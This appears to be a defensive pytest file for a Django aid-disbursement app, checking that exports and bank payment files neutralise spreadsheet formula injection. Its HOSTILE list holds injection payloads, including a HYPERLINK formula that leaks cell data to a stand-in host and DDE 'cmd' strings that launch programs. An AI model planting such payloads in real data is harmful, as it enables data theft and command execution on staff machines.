"""Formula injection (issue 13, finding 1): no text a person typed runs as a formula in any file
a spreadsheet opens — staff exports, public lists, the bank payment file — and names that
would are refused at the door (forms, API, bulk import)."""

import csv
import io
import re
from decimal import Decimal

import pytest
from django.core.management import call_command
from django.urls import URLPattern, URLResolver, get_resolver
from django.utils import translation
from djmoney.money import Money
from openpyxl import load_workbook

from common.exports import export_response, neutralise, starts_like_formula
from disbursement.bankfiles import write_payment_file
from disbursement.models import BankLayout, ExportFormat

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    " =1+1",
    "\t=1+1",
    "\r=1+1",
    "\n-1",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_every_formula_prefix_is_neutralised_also_after_blanks(text):
    assert starts_like_formula(text)
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["王芳", "Zhang - Li", "a=b", "", "1002", Decimal("-5.00"), 7])
def test_plain_values_are_left_as_they_are(value):
    assert neutralise(value) == value


def _cells_csv(content: bytes) -> list[str]:
    text = content.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _cells_xlsx(content: bytes) -> list:
    book = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula cell was written"
    return [c.value for c in cells if isinstance(c.value, str)]


def _assert_inert(cells: list[str]) -> None:
    # A negative amount in a CSV ("-3.50") is a number, which a spreadsheet reads as one.
    running = [
        c
        for c in cells
        if isinstance(c, str) and starts_like_formula(c) and not re.fullmatch(r"-\d+(\.\d+)?", c)
    ]
    assert not running, running


def test_the_export_writer_writes_hostile_text_inert_in_csv_and_xlsx():
    rows = [[text, Money(Decimal("-3.50"), "CNY"), 4] for text in HOSTILE]
    for fmt, read in (("csv", _cells_csv), ("xlsx", _cells_xlsx)):
        response = export_response(fmt=fmt, title="t", headers=["=h", "b", "c"], rows=rows)
        cells = read(response.content)
        _assert_inert(cells)
        assert "'" + HOSTILE[0] in cells  # kept, readable, with the apostrophe
    # money stays a number (a negative amount is not text and is not touched)
    response = export_response(fmt="xlsx", title="t", headers=["a", "b", "c"], rows=rows)
    book = load_workbook(io.BytesIO(response.content))
    assert book.active["B2"].value == -3.5


@pytest.mark.django_db
@pytest.mark.parametrize("fmt", [ExportFormat.CSV, ExportFormat.XLSX])
def test_the_bank_payment_file_writes_hostile_names_inert(fmt):
    layout = BankLayout.objects.create(
        name="hostile",
        export_columns=[
            ["holder", "=户名"],
            ["account", "账号"],
            ["amount", "金额"],
            ["reference", "流水"],
            ["memo", "附言"],
            ["bank_name", "开户行"],
        ],
    )
    row = {
        "holder": HOSTILE[0],
        "account": "6228480000000000001",
        "amount": "960.00",
        "reference": "P-1",
        "memo": HOSTILE[2],
        "bank_name": HOSTILE[5],
    }
    content, count = write_payment_file(layout, [row], fmt)
    assert count == 1
    cells = _cells_csv(content) if fmt == ExportFormat.CSV else _cells_xlsx(content)
    _assert_inert(cells)
    assert "'" + HOSTILE[0] in cells


# --------------------------------------------------------------------------------------------
# every export of the screens, on the demo county with hostile text in it
# --------------------------------------------------------------------------------------------
def _plain_urls(resolver=None, prefix=""):
    """Every URL of the site that takes no argument."""
    resolver = resolver or get_resolver()
    for pattern in resolver.url_patterns:
        route = prefix + str(pattern.pattern)
        if isinstance(pattern, URLResolver):
            yield from _plain_urls(pattern, route)
        elif isinstance(pattern, URLPattern) and "<" not in route and "(?P" not in route:
            yield "/" + route.lstrip("^").rstrip("$").replace("\\Z", "").lstrip("/")


@pytest.fixture
def hostile_demo(settings, db):
    settings.DEBUG = True
    settings.PASSWORD_HASHERS = ["django.contrib.auth.hashers.MD5PasswordHasher"]
    call_command("load_demo", stdout=io.StringIO())
    from approvals.models import Household, Person
    from ledger.collection.models import Donor
    from ledger.models import JournalEntry

    # Data that came in before the door was shut, or by the admin: written around the services.
    Donor.objects.update(name=HOSTILE[0])
    Person.objects.update(name=HOSTILE[3])
    Household.objects.update(address=HOSTILE[4])
    assert JournalEntry.objects.exists()
    # and a donation by such a donor today: its receipt and the public list carry the name
    from django.contrib.auth import get_user_model
    from django.utils import timezone

    from ledger.collection.services import donation_record

    donation_record(
        donor=Donor.objects.filter(anonymous=False).first(),
        fund="RELIEF",
        amount=Money(Decimal("88.00"), "CNY"),
        method="bank",
        received_on=timezone.localdate(),
        idempotency_key="hostile-1",
        project=HOSTILE[6],
        actor=get_user_model().objects.get(username="officer"),
    )


def test_no_export_of_any_screen_writes_a_running_formula(client, hostile_demo):
    from django.contrib.auth import get_user_model

    downloads = 0
    with translation.override("en"):
        for username in ("supervisor", "officer", "auditor", "public"):
            client.logout()
            if username != "public":
                user = get_user_model().objects.filter(username=username).first()
                if user is None:
                    continue
                client.force_login(user)
            for url in sorted(set(_plain_urls())):
                if url.startswith(("/admin", "/logout", "/i18n", "/api")):
                    continue
                for fmt in ("csv", "xlsx"):
                    response = client.get(url, {"format": fmt})
                    if "attachment" not in response.get("Content-Disposition", ""):
                        continue
                    downloads += 1
                    body = (
                        b"".join(response.streaming_content)
                        if response.streaming
                        else response.content
                    )
                    cells = _cells_csv(body) if fmt == "csv" else _cells_xlsx(body)
                    _assert_inert(cells)
    # the staff lists and the public lists were all read (the test is not vacuous)
    assert downloads >= 20, downloads
